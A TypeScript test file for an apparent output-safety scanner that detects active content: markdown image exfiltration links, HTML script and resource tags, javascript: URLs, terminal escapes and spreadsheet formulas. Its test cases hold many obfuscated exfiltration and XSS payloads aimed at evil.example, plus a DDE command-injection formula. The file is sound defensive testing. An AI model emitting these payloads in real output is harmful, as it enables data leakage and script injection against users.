import { expect, test } from '@jest/globals'
import fc from 'fast-check'
import type { Finding } from '../core/finding.ts'
import { activeContent } from './active-content.ts'
import { activeRules, type ActiveRule } from './machine.ts'

/** Rules that a default policy acts on: certain ones. */
const acting = (text: string): readonly string[] => [
  ...new Set(
    activeContent
      .scan(text)
      .filter(({ score }) => score === 1)
      .map(({ rule }) => rule),
  ),
]

const inPieces = (text: string, cuts: readonly number[]): readonly Finding[] => {
  const session = activeContent.open(() => true)
  const at = [0, ...[...cuts].sort((a, b) => a - b), text.length]
  const found = at.slice(1).flatMap((end, i) => {
    const from = session.cleared
    const findings = session.push(text.slice(at[i], end))
    expect(session.cleared).toBeGreaterThanOrEqual(from)
    for (const { start } of findings) expect(start).toBeGreaterThanOrEqual(from)
    return findings
  })
  const from = session.cleared
  const last = session.end()
  for (const { start } of last) expect(start).toBeGreaterThanOrEqual(from)
  return [...found, ...last].sort((a, b) => a.start - b.start || b.end - a.end || (a.rule < b.rule ? -1 : 1))
}

const samples: Record<ActiveRule, { readonly hits: readonly string[]; readonly misses: readonly string[] }> =
  {
    'markdown-image': {
      hits: [
        '![ ](https://evil.example/p.png?d=x)',
        '![logo]( <https://evil.example/a b> "title")',
        '![a](//evil.example/x)',
        '![a](/\\evil.example/x)',
        '![a](\nhttps://evil.example/x)',
        `![a](${' '.repeat(500)}https://evil.example/x)`,
        `![${'a'.repeat(5000)}](https://evil.example/x)`,
        `![a](https://evil.example/${'x'.repeat(5000)})`,
        '![a](&#104;ttps://evil.example/x)',
        '![a](https\\://evil.example/x)',
        '![a](ht\ntps://evil.example/x "![b](https://evil.example/y)")',
        '![`[`](https://evil.example/x)',
        '![a `](x) b](https://evil.example/x)',
        '![x [a](](https://evil.example/x)',
        '![a [b](c.png) d](https://evil.example/x)',
        '[![a](https://evil.example/x)](https://ok.example/)',
        '![a][b]\n\n[b]: https://evil.example/x',
        '![b]\n\n[b]:\n   <https://evil.example/x>',
        '[b]: https://evil.example/x\n\nSee ![b].',
        // What a placeholder would complete: `![REDACTED_EMAIL](https://…)`.
        '!ann@example.org(https://evil.example/x)',
        '![!](https://one.example)(https://two.example?d=1)',
        '[redacted_email]: https://evil.example/x',
        'see [x]:![a](https://evil.example/x)',
        'f[0](![a](https://evil.example/x)',
        'f[0](x![a](https://evil.example/x)',
        'f[0](!ann@example.org(https://evil.example/x)',
        'f[0](\n[b]: https://evil.example/x\n\n![b]',
        'f[0](x![b]\n\n[b]: https://evil.example/x',
        '[b]: https://evil.example/x\n\nSee ![b]: it',
        '[b]: https://evil.example/x\n\n![b](![c](d)',
        '![b](no address)\n\n[b]: https://evil.example/x',
        '[b]: https://evil.example/x\n\n![b](<a)',
        '![b](data:text/plain,x)\n\n[b]: https://evil.example/x',
        '![a](\u00a0https://evil.example/x)',
        `![a](<h${'\t'.repeat(3000)}ttps://evil.example/x>)`,
      ],
      misses: [
        '![a](a.png) and [docs](https://ok.example/)',
        '![a](data:image/png;base64,AAAA)',
        '[docs](https://ok.example/x)',
        'See [1].\n\n[1]: https://ok.example/x',
        'Great! Call f(x), then [docs](https://ok.example/).',
        'Wow! (see https://ok.example/)',
        '#![allow(dead_code)] and vec![1, 2]',
        '![a]\n\nmore [b](https://ok.example/)',
        '![a](a.png)\n\n[1]: https://ok.example/x',
        'Sure! See [docs][1].\n\n[1]: https://ok.example/x',
      ],
    },
    'link-with-data': {
      hits: [
        '[a](https://evil.example/?d=x)',
        '<a href="https://evil.example/?d=x">',
        '[a](https://user@evil.example/)',
      ],
      misses: ['[a](https://ok.example/x)', '[a](?d=x)', '[a](mailto:ann@example.org?subject=x)'],
    },
    'html-resource': {
      hits: [
        '<img src=https://evil.example/x>',
        '<IMG/SRC="https://evil.example/x">',
        '<img\nalt="a>b"\nsrc = \'https://evil.example/x\'>',
        '<img alt="x"src=//evil.example/x>',
        '<img src="&#x68;ttps://evil.example/x">',
        '<img src="ht\ttps://evil.example/x">',
        '<img srcset="a.png 1x, https://evil.example/x 2x">',
        '<video poster=https://evil.example/x>',
        '<p style="background:url( \'https://evil.example/x\')">',
        '<p style="background:\\75rl(https://evil.example/x)">',
        '<link rel=prefetch href=https://evil.example/x>',
        '<svg><image xlink:href="https://evil.example/x"/></svg>',
        '<form action="https://evil.example/x">',
        '<b c=" <img src=https://evil.example/x>',
        '<div>\n```\n<img src=//evil.example/x>\n```\n',
        `<img src="https://evil.example/${'x'.repeat(5000)}`,
        '<img src=&#x00000000068;ttps://evil.example/x>',
        '<img src="http:<@evil.example/x">',
        '<img src="/\n/<@evil.example/x">',
        '<img src="https://here.invalid<@evil.example/x">',
        `<img src="${' '.repeat(3000)}https://evil.example/x">`,
        `<img src="${'&#9;'.repeat(3000)}https://evil.example/x">`,
        '<img attributionsrc=https://evil.example/x>',
        "<p style=\"background:image-set('a.png' 1x, '//evil.example/x' 2x)\">",
        '<p style="background:url(\'ht\ttps://evil.example/x\')">',
        '<b c="<" style="color:red; background:url(//evil.example/x)">',
        '<b c="<" ><img src="h\nttps://evil.example/x">',
        '<svg><rect mask="url(https://evil.example/x)"/></svg>',
        '<link href="data:text/css,@import \'//evil.example/x\'">',
        JSON.stringify({ html: '<img alt="x" src="https://evil.example/x">' }),
      ],
      misses: [
        '<img src="a.png">',
        '<img src="data:image/png;base64,AAAA">',
        `<img src="data:image/png;base64,${'A'.repeat(5000)}">`,
        '<a href="https://ok.example/">',
        'a <b and c = 5 but x <y',
        'List<String> src = https',
        '<p style="color:red">',
        "<p style=\"background:image-set('a.png' 1x, 'b.png' 2x);color:red\">",
        `<img src="data:image/png;base64,${' '.repeat(3000)}AAAA">`,
        '<rect fill="url(#a)" stroke="red">',
      ],
    },
    'html-script': {
      hits: [
        '<script src="https://evil.example/x.js"></script>',
        '<ScRiPt>alert(1)</ScRiPt>',
        '<svg/onload=alert(1)>',
        '<img src=x onerror = "alert(1)">',
        '<iframe src=x>',
        '<base href=x>',
        '<meta http-equiv="refresh" content="0;url=x">',
        '<iframe srcdoc="x">',
        '<x onclick=alert(1)>',
        '<a title="<b x=\'" onclick=alert(1) y=\'">',
        'Use `<script> here',
        'https://a.example/`<script>`',
        '[b]:\n~~~\n<script>\n~~~\n',
        'www.a.example/`<script>`',
        '| ` | <script> | `',
        'Use \\`<script>`',
        'Use <b title="`"><script>`',
        '| ` | <script> | ` |',
        '$`$ <script> `',
        'a ` b\n`<script>`',
        '- a\n  ```\n<script>\n  ```\n',
        '  ```\n```\n<script>\n```\n',
        '> ```\n\n```\n```\n<script>\n```\n',
        '```\n```\n<script>\n',
        '~~~\n```\n~~~\n<script>\n```\n',
        '``` `\n<script>\n```\n',
        // An indented fence: the list ends, the fence closes in one reading, or it was never one.
        '- a\n  ```\n\u00a0\n  <script>\n  ```\n',
        '- a\n  ```\nb\n  <script>\n  ```\n',
        '- a\n  ```\n     ```\n  <script>\n',
        'a\n    ```\n    <script>\n\nb',
        '- a\n  ```\n  b\n  ```\n<script>\n',
        // Spaces that Markdown does not count, and ends of lines that are not kept.
        '`a\n\u00a0\nb` <script> `c`',
        '```\na\n```\u00a0\nb\n```\n<script>\n```\n',
        `\`\`\`\na\n\`\`\`${' '.repeat(70)}\n<script>\n`,
        `${'~'.repeat(70)}\na\n${'~'.repeat(70)}\n<script>\n`,
      ],
      misses: [
        'Use `<script>` here.',
        'Use ``<script> ` `` here.',
        '| Tag | Use |\n|---|---|\n| `<script>` | runs code |\n| `<iframe>` | shows a page |',
        '```html\n<script>alert(1)</script>\n```\n',
        'So:\n```html\n<script>\n```\nand\n```html\n<p onclick="x()">\n```\n',
        '~~~\n<script>\n```\n<iframe>\n~~~\n',
        '1. a\n   ```html\n   <script>\n\n     <iframe>\n   ```\n2. b\n   ```\n   <script>\n   ```\n',
        '- a\n\n      ~~~\n      <script>\n      ~~~\n',
        '<b one="1" only="2">',
        '<scripture>',
      ],
    },
    'script-url': {
      hits: [
        '[a](javascript:alert(1))',
        '[a](java&#10;script:alert(1))',
        '[a]( <JavaScript:alert(1)>)',
        '[a]: javascript:alert(1)',
        '[a](data:text/html;base64,AAAA)',
        '[a](vbscript:x)',
        '[a](<data: text/html,x>)',
        '<a href=" javascript:alert(1)">',
        '<a href="java\nscript:alert(1)">',
      ],
      misses: ['[a](x?javascript:alert(1))', 'javascript: a language', '[a](data:image/png;base64,AAAA)'],
    },
    'terminal-escape': {
      hits: ['\u001b[31mred', 'a\u009b31m', '`\u001b]52;c;AAAA\u0007`'],
      misses: ['\\x1b[31m', 'next\u0085line'],
    },
    'spreadsheet-formula': {
      hits: [
        '=HYPERLINK("https://evil.example/?d="&A1,"x")',
        'a,b\n1,=WEBSERVICE("x")',
        '"=IMPORTXML(""x"")"',
        '+IF(1,importdata("x"))',
        '@image("x")',
        "=cmd|'/c calc'!A0",
        '=_xlfn.WEBSERVICE("x")',
        '=HYPERLINK ("x")',
        '\uff1dHYPERLINK("x")',
      ],
      misses: ['=SUM(A1)', '- IMAGE("x")', 'a = IMAGE("x")', '`=IMPORTXML("x")`', '=> call(x)', '| =a | b |'],
    },
  }

const rows = Object.entries(samples)

test('there are samples of every rule', () => {
  expect(Object.keys(samples)).toEqual(Object.keys(activeRules))
})

test.each(rows)('%s is seen however it is written', (rule, { hits }) => {
  for (const hit of hits)
    expect([hit, acting(`Well.\n\n${hit}`)]).toEqual([hit, expect.arrayContaining([rule])])
})

test.each(rows)('%s is not seen in harmless text and in code', (rule, { misses }) => {
  for (const miss of misses) expect([miss, acting(miss)]).toEqual([miss, expect.not.arrayContaining([rule])])
})

const piece = fc.oneof(
  fc.constantFrom(
    ...rows.flatMap(([, { hits, misses }]) => [...hits, ...misses]).filter((one) => one.length < 200),
  ),
  fc.constantFrom('\n', '\n\n', '```\n', '`', '<', '![', '](', ')', '"', ' ', '😀', '=', '\\'),
  fc.string({ unit: 'binary', maxLength: 8 }),
)

test('where a text is cut changes nothing, and nothing is cleared that is found later', () => {
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 8 }),
      fc.array(fc.nat(400), { maxLength: 12 }),
      (parts, cuts) => {
        const text = parts.join('')
        const inside = [...new Set(cuts.map((cut) => cut % (text.length + 1)))]
        expect(inPieces(text, inside)).toEqual(activeContent.scan(text))
      },
    ),
    { numRuns: 400 },
  )
})

test('an answer of prose is never held back', () => {
  const session = activeContent.open(() => true)
  let length = 0
  for (const word of 'It costs 3 < 4 euros (see the list) and that is all! '.split(/(?<= )/)) {
    session.push(word)
    length += word.length
    expect(session.cleared).toBe(length)
  }
})

test.each([
  '![a](https://ok.example\\@evil.example/x)',
  '![a](https://ok.example\\)@evil.example/x)',
  '![a](<https://ok.example\\>@evil.example/x>)',
  '![a](https://x(.ok.example)@evil.example/x)',
  '![a](https://evil.example&sol;.ok.example/x)',
  '![a][b]\n\n[b]: https://ok.example\\)@evil.example/x',
  '<img src="https://ok.example<@evil.example/x">',
  '<img src="https://ok.example&sol.evil.example/x">',
  `<img src="https://ok.example${'\t'.repeat(3000)}@evil.example/x">`,
  '<img srcset="https://ok.example/a 1x, https://evil.example/b 2x">',
  '<img srcset="https://ok.example,@evil.example/b 2x">',
  '<a ping="https://ok.example/a https://evil.example/x">',
  '<p style="background:url(https://ok.example/a),url(https://evil.example/x)">',
  '<p style="background:url(\'https://ok.example)@evil.example/x\')">',
])('a host that is fine hides no other one: %s', (text) => {
  const hosts = activeContent.scan(text).map(({ host = '' }) => host)
  expect(hosts.filter((host) => !/^([a-z]+\.)?ok\.example$/.test(host))).not.toEqual([])
})

test.each([
  '![a](https://ok.example/a_\\(b\\).png)',
  '<img src="https://ok.example/a?b&amp;c<d">',
  `<img src="https://ok.example/${'x'.repeat(5000)}">`,
  '<img srcset="https://ok.example/a 1x, https://ok.example/b 2x">',
  '<p style="background:url(\'https://ok.example/a\')">',
])('and stays fine however it is written: %s', (text) => {
  expect(new Set(activeContent.scan(text).map(({ host }) => host))).toEqual(new Set(['ok.example']))
})
